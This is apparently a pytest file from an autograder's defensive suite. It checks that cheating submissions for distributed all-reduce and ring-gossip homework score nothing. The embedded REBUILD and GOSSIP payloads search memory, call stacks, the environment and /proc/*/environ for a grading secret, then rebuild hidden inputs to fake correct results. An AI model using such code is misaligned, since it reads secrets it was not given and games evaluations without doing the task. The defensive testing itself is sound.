"""Hostile submissions, class 2 of issue 25: an all-reduce that sends nothing and rebuilds every
rank's input on its own must score nothing on the value checks.

The attack (REBUILD below) is what a student who read the public harness would write into
naive_all_reduce and ring_all_reduce: walk up the call stack and the garbage collector for the
harness's case objects, any list holding every rank's input, and the grading's input secret (in
the environment, in /proc/*/environ, in any dict of the process, or in the file it names); call
every input maker of the harness modules with what it found; keep a rebuild only when it gives
back this rank's own x; else try the closed forms ("rank r holds r", and r times a constant).
Then it writes the combined result into x without sending a message. It says what it used in
ATTACK-REBUILT lines (and ATTACK-DONE once it ran).

The inputs come from the trusted test process (assignments/common/rank_inputs.py): each rank
receives only its own, made from a secret drawn per grading, so every case fails but p = 1. Before
that design (ranks made their inputs from a seed in the case) the same code took the hidden tests'
full marks. The control: with the sandbox off the attack reads the secret file and takes them again.

Homework 2 (GOSSIP below): a ring_gossip_ that sends nothing and rebuilds its ring neighbours' x the
same ways (every rank's x in memory, any harness function that makes values, the secret, the old
closed form 6 (i (r % 5 + 1) + 7 r^2)) keeps only the p = 1 share of the hidden test_ring_gossip_step.
"""

import json
import os
import re

import pytest

from autograder.hw1.cases import WORLD_SIZES
from autograder.session import GradingSession
from tests.kit.attacks import SECRETS
from tests.kit.submissions import grade_at_sizes, insert_after_marker, make_submission, run
from tests.kit.test_hostile import correct_neighbour, sandboxed_processes, uids_of

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox's user layer needs root (CI runs as root)")]

REBUILD = '''
import gc as _gc, glob as _gl, importlib as _il, inspect as _in, os as _o, sys as _y
import torch as _t
_p, _me = group.size, group.rank
_var = "AUTOGRADER_INPUT_SECRET"
_cache = _y.__dict__.setdefault("_rebuild_cache", {})        # what the hunt found, once per process
def _say(what):
    print(f"ATTACK-REBUILT: {what}", flush=True)
''' + SECRETS + '''
def _hunt_secret():
    found = []
    for _obj in _gc.get_objects():                  # dicts of plain strings are not tracked: look one level in
        for _d in [_obj, *_obj.values()] if type(_obj) is dict else []:
            if type(_d) is dict:
                found += [str(v) for k, v in list(_d.items()) if isinstance(k, str) and k.startswith(_var)]
    for _v in list(found):
        try:
            found.append(open(_v).read().strip())
        except Exception:
            pass
    return list(dict.fromkeys(_secrets() + found))      # the environment, /proc and files first (SECRETS)
def _frames_cases():
    cases, f = [], _in.currentframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            if hasattr(v, "fn") and hasattr(v, "dtype") and hasattr(v, "n"):
                cases.append(v)
        f = f.f_back
    return cases
def _makers():
    for _f in _gl.glob("assignments/*/tests/*.py") + _gl.glob("assignments/common/*.py"):
        try:
            _il.import_module(_f[:-3].replace("/", "."))
        except Exception:
            pass
    found = {}
    for name, mod in list(_y.modules.items()):
        if name.startswith("assignments") and mod is not None:
            for attr, fn in list(vars(mod).items()):
                if callable(fn) and "input" in attr.lower() and not isinstance(fn, type):
                    found[id(fn)] = (attr, fn)
    return list(found.values())
def _rebuild(case):
    if "makers" not in _cache:
        _cache["makers"], _cache["secrets"] = _makers(), _hunt_secret()
    for secret in _cache["secrets"]:
        if secret is not None:
            _o.environ[_var] = secret
        for name, fn in _cache["makers"]:
            for call in (lambda: [fn(case, r, _p) for r in range(_p)], lambda: list(fn(case, _p))):
                try:
                    xs = call()
                    if len(xs) == _p and _t.equal(xs[_me].reshape(x.shape).to(x.dtype).cpu(), x.cpu()):
                        _say(f"{name} (secret {'found' if secret else 'not needed'})")
                        return xs
                except Exception:
                    pass
    return None
def _from_memory():
    for obj in _gc.get_objects():
        if type(obj) in (list, tuple) and len(obj) == _p and all(isinstance(v, _t.Tensor) for v in obj):
            if obj[_me] is not x and obj[_me].shape == x.shape and _t.equal(obj[_me].cpu(), x.cpu()):
                _say("every rank's input found in memory")
                return list(obj)
    return None
def _closed_form():
    flat = x.reshape(-1).to(_t.float64).cpu()
    if flat.numel() == 0 or not bool((flat == flat[0]).all()):
        return None
    c = float(flat[0])
    if c == _me:
        _say("closed form: rank r holds r")
        return [_t.full_like(x, r) for r in range(_p)]
    if _me > 0:
        _say("closed form: rank r holds r times a constant")
        return [_t.full_like(x, c / _me * r) for r in range(_p)]
    return None
_xs = None
for _case in _frames_cases():
    _xs = _rebuild(_case)
    if _xs is not None:
        break
_xs = _xs or _from_memory() or _closed_form()
if _xs is not None:
    _wide = _t.float64 if x.dtype.is_floating_point else _t.int64
    _st = _t.stack([v.reshape(x.shape).to(_wide).cpu() for v in _xs])
    _res = {"sum": _st.sum(0), "max": _st.amax(0), "min": _st.amin(0), "prod": _st.prod(0)}.get(op, _st.sum(0))
    x.copy_(_res.to(x.dtype))
else:
    _say("nothing rebuilt")
print("ATTACK-DONE: REBUILD", flush=True)
return x
'''

GOSSIP = '''
import gc as _gc, glob as _gl, importlib as _il, inspect as _in, os as _o, sys as _y
import torch as _t
_p, _me = group.size, group.rank
_var = "AUTOGRADER_INPUT_SECRET"
def _say(what):
    print(f"ATTACK-REBUILT: {what}", flush=True)
def _mine(xs):
    try:
        return len(xs) == _p and _t.equal(_t.as_tensor(xs[_me]).reshape(x.shape).to(x.dtype).cpu(), x.cpu())
    except Exception:
        return False
''' + SECRETS + '''def _rebuild():
    for obj in _gc.get_objects():                     # every rank's x held in this process
        if type(obj) in (list, tuple) and len(obj) == _p and all(isinstance(v, _t.Tensor) for v in obj):
            if obj[_me] is not x and _mine(obj):
                _say("every rank's x found in memory")
                return list(obj)
    for _f in _gl.glob("assignments/hw2/tests/*.py") + _gl.glob("assignments/common/*.py"):
        try:
            _il.import_module(_f[:-3].replace("/", "."))
        except Exception:
            pass
    words = ("input", "value", "gossip")
    makers = {id(fn): (name, fn) for mod_name, mod in list(_y.modules.items())
              if mod_name.startswith("assignments") and mod is not None
              for name, fn in list(vars(mod).items())
              if callable(fn) and not isinstance(fn, type) and any(w in name.lower() for w in words)}
    cases, f = [], _in.currentframe()
    while f is not None:
        cases += [v for v in list(f.f_locals.values()) if hasattr(v, "kind") and hasattr(v, "describe")]
        f = f.f_back
    for secret in _secrets():
        if secret is not None:
            _o.environ[_var] = secret
        for name, fn in makers.values():
            calls = [lambda: [fn(r) for r in range(_p)], lambda: [fn(r, _p) for r in range(_p)]]
            calls += [lambda c=c: list(fn(c, _p)) for c in cases]
            for call in calls:
                try:
                    xs = call()
                    if _mine(xs):
                        _say(f"{name} (secret {'found' if secret else 'not needed'})")
                        return xs
                except Exception:
                    pass
    n = x.numel()
    old = [(6.0 * (_t.arange(n, dtype=_t.float64) * (r % 5 + 1) + 7 * r * r)).reshape(x.shape) for r in range(_p)]
    if _mine(old):
        _say("closed form 6 (i (r % 5 + 1) + 7 r^2)")
        return old
    return None
_xs = _rebuild()
if _xs is not None and _p > 1:
    _xs = [v.reshape(x.shape).to(x.dtype).to(x.device) for v in _xs]
    if _p == 2:
        x.copy_((_xs[0] + _xs[1]) / 2)
    else:
        x.copy_((_xs[(_me - 1) % _p] + _xs[_me] + _xs[(_me + 1) % _p]) / 3)
elif _xs is None:
    _say("nothing rebuilt")
print("ATTACK-DONE: GOSSIP", flush=True)
return x
'''

ONLY = r"HW1 1\.[47] .*: test_(naive|ring)_all_reduce$"        # the hidden tests, one case per world size
SOME_SIZES = (1, 3, 8)


def test_an_all_reduce_that_rebuilds_every_input_scores_nothing(tmp_path):
    """Every case fails but p = 1 (an all-reduce of one rank leaves x as it is: deserved), and the
    rubric entries of both tasks get nothing. Before the inputs came from the test process the same
    code took all 19 points (both tests and both rubric entries). The cases at p = 1, 3 and 8 of both
    hidden tests (all eight world sizes took 64 s of CPU to show the same: the attack searches every
    rank's memory and /proc for the inputs in every case)."""
    sub = make_submission(tmp_path / "rebuild", {"all_reduce.py": lambda s: insert_after_marker(
        "1.7", REBUILD)(insert_after_marker("1.4", REBUILD)(s))})
    out = tmp_path / "results.json"
    with correct_neighbour(tmp_path) as beside:
        results, graded = grade_at_sizes(sub, ONLY, SOME_SIZES, out)
        beside.append(results)
    tests = [graded["test_naive_all_reduce"], graded["test_ring_all_reduce"]]
    deserved = sum(t["max_score"] / len(SOME_SIZES) for t in tests)            # the p = 1 cases
    assert results["score"] <= deserved + 1e-3, [(name, t["score"]) for name, t in graded.items()]   # rounded
    for t in tests:
        assert "ATTACK-DONE: REBUILD" in t["output"], f"the attack did not run in {t['name']}"
        assert "elements differ" in t["output"], t["output"][-2000:]       # caught by the value checks
    assert json.loads(out.read_text())["score"] == results["score"]
    assert sandboxed_processes(uids_of(results)) == [], "sandboxed processes outlived the grading"


def test_the_attack_rebuilds_the_inputs_where_it_can_read_the_secret(tmp_path):
    """The control: with the sandbox off (the rank host runs as the grader's user, root here) the
    attack reads the grading's secret file, rebuilds every input and takes full marks: what keeps
    the score sound above is that the secret stays out of the sandbox's reach. On p = 2 and 5 (every
    world size took 19-55 s of the suite to show the same; p = 8 alone, its search of eight ranks'
    memory on 2 cores, ran past its 60 s case limit once on a slower machine)."""
    sub = make_submission(tmp_path / "rebuild", {"all_reduce.py": insert_after_marker("1.4", REBUILD)})
    with GradingSession("hw1", quiet=True, sandbox=False) as session:     # its own: the attack runs as the grader
        tests = session.select(r"HW1 1\.4 .*: test_naive_all_reduce$")
        assert len(tests) == 1 and [c.rsplit("[", 1)[1] for c in tests[0].cases] == [f"{p}]" for p in WORLD_SIZES]
        tests[0].cases = [c for c in tests[0].cases if c.endswith(("[2]", "[5]"))]    # p = 1 needs nothing
        results = session.grade(sub, tests=tests, show=False)
    naive = [t for t in results["tests"] if t["name"].endswith(": test_naive_all_reduce")][0]
    shown = "\n".join(line for line in naive["output"].splitlines() if "ATTACK-" not in line)
    assert naive["score"] == naive["max_score"], shown[:3000]


def first_region(task: str, code: str, homework: str):
    """A mutation: `code` at the start of the first student region of `task` only."""
    def mutate(text):
        marker = re.compile(rf"^( *)# BEGIN SOLUTION  \({homework} task {re.escape(task)}\)\n", re.M)
        m = marker.search(text)
        assert m, f"no region of {homework} task {task}"
        return text[:m.end()] + "".join(f"{m.group(1)}{line}\n" for line in code.splitlines()) + text[m.end():]
    return mutate


def test_a_ring_gossip_that_rebuilds_its_neighbours_inputs_scores_nothing(tmp_path):
    """Homework 2: every case of the hidden test_ring_gossip_step fails but p = 1 (0.67 of its 4 points),
    and the task's rubric entry gives nothing. With the harness of before hw2_inputs.py (each rank made
    its x from a closed form) the same code took 6 (the test's 4 and 2 of the rubric entry). One
    grading of one test (about 40 s)."""
    sub = make_submission(tmp_path / "gossip", {"dpsgd.py": first_region("2.5", GOSSIP, "HW2")}, homework="hw2")
    out = tmp_path / "results.json"
    results = run(sub, homework="hw2", only=r"HW2 2\.5 .*: test_ring_gossip_step$", out=str(out), jobs=1)
    ring = [t for t in results["tests"][1:] if t["name"].endswith(": test_ring_gossip_step")][0]
    deserved = ring["max_score"] / 6                                                    # the p = 1 case
    assert results["score"] <= deserved + 1e-3, [(t["name"], t["score"]) for t in results["tests"]]   # rounded
    assert "ATTACK-DONE: GOSSIP" in ring["output"], ring["output"][-2000:]
    assert "values differ" in ring["output"], ring["output"][-2000:]                   # caught by the value checks
    assert json.loads(out.read_text())["score"] == results["score"]
    assert sandboxed_processes(uids_of(results)) == [], "sandboxed processes outlived the grading"
